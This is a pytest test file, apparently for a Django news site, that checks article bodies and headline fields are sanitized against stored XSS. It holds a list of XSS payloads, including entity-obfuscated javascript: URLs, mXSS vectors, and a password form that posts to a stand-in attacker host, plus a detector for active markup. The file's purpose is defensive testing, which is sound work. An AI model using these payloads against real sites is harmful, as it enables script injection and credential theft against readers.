"""Stored XSS through the article body, posted straight to the admin form as an attacker would (no editor).

Whatever an account with the right to edit sends, the body is sanitized
(nh3 allowlist, articles/content/body.py) before it is stored, and the article page
renders only inert markup: no script, no event handler, no navigation to a
``javascript:`` URL, no frame, style, base, form or refresh.
"""

import re
from html.parser import HTMLParser

import pytest

from articles.models import Article

# Elements that run script, load content, restyle or redirect the page, or post elsewhere.
ACTIVE_ELEMENTS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "form", "input",
    "button", "textarea", "select", "meta", "link", "svg", "math", "foreignobject", "noscript", "template",
    "video", "audio", "source", "portal", "body", "html", "head",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "xlink:href", "data", "poster", "background"}
SAFE_URL = re.compile(r"(https?:|mailto:|/|#|\?|[^:]*$)", re.IGNORECASE)

ATTACKS = {
    "script": '<script>alert("xss")</script>',
    "script-in-caps": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "onerror": '<img src="/media/x.jpg" onerror="alert(1)">',
    "onload": "<body onload=alert(1)><p onmouseover=alert(2)>rê chuột</p>",
    "javascript-url": '<a href="javascript:alert(1)">bấm</a>',
    "tab-entity-in-scheme": '<a href="jav&#x09;ascript:alert(1)">bấm</a>',
    "decimal-entity-scheme": '<a href="&#106;avascript:alert(1)">bấm</a>',
    "mixed-case-scheme": '<a href="JaVaScRiPt:alert(1)">bấm</a>',
    "data-url": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">bấm</a>',
    "vbscript-url": '<a href="vbscript:msgbox(1)">bấm</a>',
    "svg-onload": "<svg onload=alert(1)><circle r=5 /></svg>",
    "svg-foreign-object": "<svg><foreignObject><p onclick=alert(1)>x</p><iframe src=javascript:alert(2)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "iframe-other-host": '<iframe src="https://evil.example/phish"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "style-element": "<style>body{display:none}</style>",
    "style-attribute": '<p style="position:fixed;top:0;left:0;width:100%;height:100%">Đăng nhập lại</p>',
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name="mat-khau" type="password"><button>Gửi</button></form>',
    "formaction": '<button formaction="javascript:alert(1)">Gửi</button>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "object-embed": '<object data="x.swf"></object><embed src="x.swf">',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "math-mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "attribute-breakout": '<img src="/media/x.jpg" alt=\'"><script>alert(1)</script>\'>',
    "comment-breakout": "<!--><script>alert(1)</script>-->",
    "template-syntax": "<p>{{ settings.SECRET_KEY }} {% debug %}</p>",
}


class ElementCollector(HTMLParser):
    """Every start tag with its attributes, as a browser's tokenizer sees them (entities decoded)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    handle_startendtag = handle_starttag


def active_parts(markup: str) -> list[str]:
    """What in ``markup`` could run script, load content, restyle or redirect; empty when inert."""
    collector = ElementCollector()
    collector.feed(markup)
    collector.close()
    # Python's parser and a browser's disagree on odd comments ("<!-->"): look at the raw tags too.
    found = [f"<{tag}>" for tag in re.findall(r"<\s*([a-z]+)", markup.lower()) if tag in ACTIVE_ELEMENTS]
    for tag, attrs in collector.elements:
        if tag in ACTIVE_ELEMENTS:
            found.append(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on") or name in ("style", "srcdoc", "http-equiv"):
                found.append(f"{tag}[{name}]")
            # Browsers ignore tabs, newlines and leading control characters inside a URL's scheme.
            url = re.sub(r"[\x00-\x20]", "", value)
            if name in URL_ATTRIBUTES and not SAFE_URL.match(url):
                found.append(f"{tag}[{name}={value!r}]")
    return found


def article_body_html(page: str) -> str:
    return re.search(r'<div class="article-body">(.*?)</div>', page, re.S)[1]


@pytest.fixture
def post_body(client, editor, make_published, article_form_data):
    """Post ``body`` as the editor to a live article's admin form; return the reloaded article."""
    article = make_published(credit_line="Theo TTXVN")
    client.force_login(editor)

    def post(body):
        response = client.post(f"/admin/articles/article/{article.pk}/change/", article_form_data(article, body=body))
        assert response.status_code == 302, response.content.decode()[:2000]
        return Article.objects.get(pk=article.pk)

    return post


# Inert as sent: one aims at the re-serialisation of <img> tags after sanitizing, one at a template engine.
NOT_LIVE_AS_SENT = {"attribute-breakout", "template-syntax"}


def test_the_checker_itself_sees_every_attack_as_active():
    """The same check run on the raw payloads: each would be live if it reached readers unsanitized."""
    for name, payload in ATTACKS.items():
        if name not in NOT_LIVE_AS_SENT:
            assert active_parts(payload), name


@pytest.mark.parametrize("payload", ATTACKS.values(), ids=ATTACKS.keys())
def test_a_body_posted_to_the_admin_form_is_stored_and_rendered_inert(post_body, client, payload):
    stored = post_body(f"<p>Đoạn đầu.</p>{payload}<p>Đoạn cuối.</p>")

    assert active_parts(stored.body) == []
    assert stored.body.startswith("<p>Đoạn đầu.</p>")  # an unclosed element may swallow what follows, as in a browser
    client.logout()
    page = client.get(stored.get_absolute_url())
    assert page.status_code == 200
    rendered = article_body_html(page.content.decode())
    assert active_parts(rendered) == []


def test_template_syntax_in_a_body_is_shown_as_text_never_evaluated(post_body, client, settings):
    stored = post_body("<p>{{ settings.SECRET_KEY }} {% debug %} {{ request.user }}</p>")

    page = client.get(stored.get_absolute_url()).content.decode()

    assert "{{ settings.SECRET_KEY }} {% debug %} {{ request.user }}" in article_body_html(page)
    assert settings.SECRET_KEY not in page


def test_the_revision_page_shows_the_stored_body_inert(post_body, client):
    stored = post_body('<p>Bản lưu</p><img src=x onerror="alert(1)"><script>alert(2)</script>')

    revisions = client.get(f"/admin/articles/article/{stored.pk}/revisions/")
    version = revisions.context["versions"][0]
    page = client.get(f"/admin/articles/article/{stored.pk}/revisions/{version.pk}/").content.decode()

    body = re.search(r'<div class="revision-body">(.*?)</div>', page, re.S)[1]
    assert "<p>Bản lưu</p>" in body
    assert active_parts(body) == []


@pytest.mark.parametrize("field", ["headline", "kicker", "lead"])
def test_markup_in_the_plain_text_fields_is_escaped_on_the_article_page(
    client, editor, make_published, article_form_data, field
):
    article = make_published(credit_line="Theo TTXVN", kicker="Thời sự")
    client.force_login(editor)
    attack = '<script>alert(1)</script><img src=x onerror="alert(2)">'
    data = article_form_data(article, **{field: f"Tin {attack}"})

    assert client.post(f"/admin/articles/article/{article.pk}/change/", data).status_code == 302
    client.logout()
    page = client.get(Article.objects.get(pk=article.pk).get_absolute_url()).content.decode()

    assert "<script>alert(1)" not in page and "<img src=x" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
